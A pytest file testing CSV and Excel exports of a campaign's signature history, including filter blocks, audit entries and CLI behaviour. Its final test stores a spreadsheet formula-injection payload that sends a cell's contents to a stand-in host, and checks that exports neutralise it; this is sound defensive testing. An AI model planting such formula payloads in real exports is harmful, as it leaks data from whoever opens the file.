"""Exports re-read as their users would (csv module, openpyxl): rows, filters block, no numbers."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import update

from campaign import audit
from campaign.history import exports
from campaign.history.filters import Filters
from campaign.history.rows import FIGURE_COLUMNS, SIGNATURE_COLUMNS
from campaign.runtime import Runtime
from campaign.settings import Settings, get_settings
from campaign.storage.models import Signature
from cli import main as campaign_cli
from tests.campaign.history.test_history import SIGNATURES, TZ, seeded  # noqa: F401 - the fixture
from tests.conftest import ROOT, backend_env
from tests.support import cli_process


def read_csv(data: bytes) -> tuple[dict[str, str], list[str], list[list[str]], str]:
    """(the filters block, header, rows, the closing line) of a CSV export."""
    lines = data.decode("utf-8").splitlines()
    block = {}
    while lines and lines[0].startswith("# "):
        name, _, value = lines.pop(0)[2:].partition(": ")
        block[name] = value
    closing = lines.pop()
    table = list(csv.reader(io.StringIO("\n".join(lines))))
    return block, table[0], table[1:], closing


def no_numbers(text: str) -> None:
    for _, phone, *_ in SIGNATURES:
        assert phone not in text and phone[1:] not in text and phone[-8:] not in text


def test_signatures_csv_has_exactly_the_filtered_rows_and_the_filters(seeded: Runtime) -> None:  # noqa: F811
    filters = Filters(appeals=("hassan",), start=date(2008, 2, 28), channels=("sms", "web"))
    data, done = exports.to_bytes(seeded.engine, "signatures", "csv", filters, actor="anna", tz=TZ)
    block, header, rows, closing = read_csv(data)
    assert block["export"] == "signatures" and block["exported_by"] == "anna"
    assert block["time_zone"] == "Europe/Amsterdam"
    assert block["filter appeal"] == "hassan" and block["filter from"] == "2008-02-28"
    assert block["filter channel"] == "sms,web" and block["filter to"] == "all"
    assert block["filter country"] == "all" and block["filter outcome"] == "all"
    assert header == list(SIGNATURE_COLUMNS)
    assert closing == "# rows: 2" and done.rows == 2
    assert [(r[1], r[2], r[3], r[4], r[5], r[6], r[7]) for r in rows] == [
        ("2008-02-28T09:00:00+00:00", "2008-02-28T10:00:00+01:00", "hassan", "torture", "web", "web", "NL"),
        (
            "2008-03-01T23:30:00+00:00",
            "2008-03-02T00:30:00+01:00",
            "hassan",
            "torture",
            "sms",
            "twilio",
            "DE",
        ),
    ]
    no_numbers(data.decode())


def test_figures_xlsx_has_a_filters_sheet_and_the_hourly_counts(seeded: Runtime, tmp_path: Path) -> None:  # noqa: F811
    path = tmp_path / "figures.xlsx"
    filters = Filters(countries=("NL", "BE"), end=date(2008, 2, 27))
    done = exports.write(seeded.engine, "figures", "xlsx", filters, path, actor="anna", tz=TZ)
    book = openpyxl.load_workbook(path, read_only=True)
    assert book.sheetnames == ["Filters", "Signatures per hour"]
    block = {row[0]: row[1] for row in book["Filters"].iter_rows(values_only=True)}
    assert block["filter country"] == "NL,BE" and block["filter to"] == "2008-02-27"
    assert block["rows"] == "3" and done.rows == 3
    rows = list(book["Signatures per hour"].iter_rows(values_only=True))
    assert rows[0] == FIGURE_COLUMNS
    assert rows[1:] == [
        (
            "2008-02-27T20:00:00+00:00",
            "2008-02-27T21:00:00+01:00",
            "hassan",
            "torture",
            "sms",
            "twilio",
            "NL",
            2,
        ),
        (
            "2008-02-27T20:00:00+00:00",
            "2008-02-27T21:00:00+01:00",
            "hassan",
            "torture",
            "sms",
            "vonage",
            "BE",
            1,
        ),
        (
            "2008-02-27T21:00:00+00:00",
            "2008-02-27T22:00:00+01:00",
            "ali",
            "torture",
            "sms",
            "twilio",
            "NL",
            1,
        ),
    ]


def test_a_large_xlsx_export_continues_on_another_sheet(
    seeded: Runtime,  # noqa: F811
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(exports, "SHEET_ROWS", 4)
    path = tmp_path / "all.xlsx"
    done = exports.write(seeded.engine, "signatures", "xlsx", Filters(), path, actor="anna", tz=TZ)
    book = openpyxl.load_workbook(path, read_only=True)
    assert book.sheetnames == ["Filters", "Signatures", "Signatures (2)", "Signatures (3)"]
    data_rows = sum(len(list(book[name].iter_rows())) - 1 for name in book.sheetnames[1:])
    assert data_rows == done.rows == 10


def test_every_export_is_audited_without_personal_data(seeded: Runtime) -> None:  # noqa: F811
    exports.to_bytes(seeded.engine, "signatures", "csv", Filters(countries=("KE",)), actor="anna", tz=TZ)
    entry = audit.recent(seeded.engine, limit=1)[0]
    assert (entry.actor, entry.action, entry.subject) == ("anna", "export", "signatures")
    assert entry.detail == {"format": "csv", "filters": {"country": "KE"}, "rows": 3}


def cli_env(settings: Settings) -> dict[str, str]:
    return {
        **backend_env(settings),
        "CAMPAIGN_TIMEZONE": "Europe/Amsterdam",
    }


def cli(settings: Settings, *args: str) -> subprocess.CompletedProcess[str]:
    return cli_process.run(
        args,
        env={**os.environ, **cli_env(settings)},
        timeout=60,
        cwd=ROOT,
    )


def test_cli_export_signatures_as_excel(seeded: Runtime, settings: Settings, tmp_path: Path) -> None:  # noqa: F811
    path = tmp_path / "hassan.xlsx"
    done = cli(
        settings, "export", "signatures", "--appeal", "hassan", "--from", "2008-01-01", "--format", "xlsx",
        "--output", str(path),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "5 rows to" in done.stderr
    book = openpyxl.load_workbook(path, read_only=True)
    block = {row[0]: row[1] for row in book["Filters"].iter_rows(values_only=True)}
    assert block["filter appeal"] == "hassan" and block["filter from"] == "2008-01-01"
    assert block["exported_by"].startswith("cli")
    rows = list(book["Signatures"].iter_rows(values_only=True))[1:]
    assert len(rows) == 5 and {row[3] for row in rows} == {"hassan"}
    assert audit.recent(seeded.engine, limit=1)[0].detail["rows"] == 5


def test_cli_export_csv_to_standard_output(seeded: Runtime, settings: Settings) -> None:  # noqa: F811
    done = cli(settings, "export", "figures", "--campaign", "kenya", "--country", "ke", "--channel", "sms")
    assert done.returncode == 0, done.stderr
    block, header, rows, closing = read_csv(done.stdout.encode())
    assert block["filter campaign"] == "kenya" and block["filter country"] == "KE"
    assert header == list(FIGURE_COLUMNS)
    assert sum(int(row[-1]) for row in rows) == 2 and closing == "# rows: 2"
    no_numbers(done.stdout)


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("--appeal", "nobody"), "no appeal 'nobody'"),
        (("--from", "27-02-2008"), "--from '27-02-2008' is not a date such as 2008-01-31"),
        (("--format", "pdf"), "--format 'pdf' is not one of csv, xlsx"),
        (("--outcome", "freed"), "outcome 'freed' is not one of"),
    ],
)
def test_cli_export_refuses_bad_filters_in_one_line(
    seeded: Runtime,  # noqa: F811
    settings: Settings,
    args: tuple[str, ...],
    message: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    # In this process (the command's own error handling, as ``campaign`` runs it): quicker.
    for name, value in cli_env(settings).items():
        monkeypatch.setenv(name, value)
    monkeypatch.setattr(sys, "argv", ["campaign", "export", "signatures", *args])
    get_settings.cache_clear()
    try:
        with pytest.raises(SystemExit) as stopped:
            campaign_cli.main()
    finally:
        get_settings.cache_clear()
    assert stopped.value.code == 2
    stderr = " ".join(capsys.readouterr().err.split())
    assert message in stderr and "Traceback" not in stderr


def test_cli_rollup_rebuild_reports_rows(seeded: Runtime, settings: Settings) -> None:  # noqa: F811
    done = cli(settings, "rollup", "rebuild")
    assert done.returncode == 0, done.stderr
    assert "signature_hours: 9 rows" in done.stdout and "member_hours: 2 rows" in done.stdout


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_exported_cell_runs_as_a_formula(seeded: Runtime, fmt: str, tmp_path: Path) -> None:  # noqa: F811
    """The attack that found it: a provider name stored before imports checked it, as a formula."""
    payload = '=HYPERLINK("http://x.ex/?"&B2)'  # 30 characters: the column holds 32
    with seeded.engine.begin() as connection:
        connection.execute(update(Signature).values(provider=payload))
    data, done = exports.to_bytes(seeded.engine, "signatures", fmt, Filters(), actor="anna", tz=TZ)  # type: ignore[arg-type]
    assert done.rows == len(SIGNATURES)
    if fmt == "csv":
        _, header, rows, _ = read_csv(data)
    else:
        book = openpyxl.load_workbook(io.BytesIO(data))
        values = [[cell for cell in row] for row in book.worksheets[1].iter_rows(values_only=True)]
        header, rows = [str(v) for v in values[0]], values[1:]
    column = header.index("provider")
    assert {row[column] for row in rows} == {"'" + payload}
    assert all(not str(cell).startswith(("=", "+", "@")) for row in rows for cell in row if cell is not None)
